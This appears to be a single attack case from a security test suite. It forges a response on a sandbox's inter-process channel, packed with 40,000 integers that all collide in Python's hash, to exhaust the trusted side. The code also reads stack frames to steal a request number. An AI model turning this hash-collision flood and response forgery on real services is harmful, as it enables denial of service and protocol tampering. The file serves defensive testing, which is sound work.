"""
number = 9
family = "availability"
what = "answer with a table of numbers that all have the same hash"
stopped_by = ["cap on the size of an answer's header", "wall-clock limit of the trusted side"]
verdicts = {full = ["bad_return", "passed"], contained = ["bad_return", "passed"], limited = ["bad_return", "passed"]}
"""

import os
import stat
import struct
import sys


def channels() -> list[int]:
    found = []
    for number in range(3, 65):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(number)
    return found


def request_number() -> int:
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            table = value if isinstance(value, dict) else getattr(value, "header", None)
            if isinstance(table, dict) and isinstance(table.get("n"), int):
                return table["n"]
        frame = frame.f_back
    return 0


def attack(targets: dict) -> str:
    # the hash of an integer is its rest by 2**61 - 1, so these all fall into one place
    prime = (1 << 61) - 1
    pairs = ",".join(f"[{index * prime},0]" for index in range(1, 40_001))
    header = b'{"n": %d, "ok": {"$dict": [%s]}}' % (request_number(), pairs.encode())
    for number in channels():
        left = memoryview(b"GRDF" + struct.pack("<IIQ", 1, len(header), 0) + header)
        while left:
            left = left[os.write(number, left[: 1 << 18]) :]
    return "stopped: behind a forged answer"
